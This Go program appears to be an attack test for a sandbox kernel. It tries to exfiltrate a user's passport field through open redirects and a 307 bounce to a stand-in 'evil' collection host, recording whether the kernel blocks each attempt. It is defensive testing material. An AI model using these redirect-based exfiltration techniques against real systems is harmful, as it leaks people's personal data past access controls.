// Command exfil-redirect tries to get data out through redirects: an open
// redirect on the granted server pointing at the evil one (which would
// carry the injected credential along), the unread passport spliced into
// the redirect target, and the passport sent to the vault (cleared for
// it) at an endpoint that answers 307 to the evil server, which would
// resend the body. The kernel follows redirects only in scope (caps/net)
// and checks the flow first (law 7).
package main

import (
	"net/url"

	mandate "github.com/mandatevm/mandate/guest-sdk"
	"github.com/mandatevm/mandate/guest-sdk/abi"
	"github.com/mandatevm/mandate/internal/attacks/attack"
)

func main() {
	in := attack.ReadInput()
	web := attack.Must(mandate.Lookup("web"))
	vault := attack.Must(mandate.Lookup("vault"))
	mydata := attack.Must(mandate.Lookup("mydata"))
	_, err := fetch(web, abi.HTTPRequest{Method: "GET", URL: "/api/redirect?to=" + url.QueryEscape(in.Evil+"/collect")})
	attack.Rec("redirect_evil", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "POST", URL: "/api/redirect?to=" + url.QueryEscape(in.Evil+"/collect"), Body: []byte("public")})
	attack.Rec("redirect_evil_post", err)
	pb, err := mydata.Call("read", []byte(`{"owner":"alice","fields":["passport"]}`))
	attack.Rec("read_unread", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "/api/redirect?to=" + url.QueryEscape(in.Evil+"/") + abi.SplicePlaceholder(0), Splice: []abi.Handle{pb.Handle()}})
	attack.Rec("splice_redirect", err)
	// To the vault (cleared), which bounces it with a 307 to evil.
	_, err = fetch(vault, abi.HTTPRequest{Method: "POST", URL: "/vault/redirect?to=" + url.QueryEscape(in.Evil+"/collect"), BodyBlob: pb.Handle()})
	attack.Rec("vault_307_evil", err)
	_, err = fetch(vault, abi.HTTPRequest{Method: "POST", URL: "/vault/redirect?to=" + url.QueryEscape("/api/echo"), BodyBlob: pb.Handle()})
	attack.Rec("vault_redirect_public_path", err)
	pb.Bytes()
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "/api/redirect?to=" + url.QueryEscape("/api/landed")})
	attack.Rec("redirect_after_read", err)
	attack.Finish()
}

func fetch(c mandate.Cap, r abi.HTTPRequest) (mandate.Blob, error) {
	b, _ := abi.EncodeHTTPRequest(r)
	return c.Call("fetch", b)
}
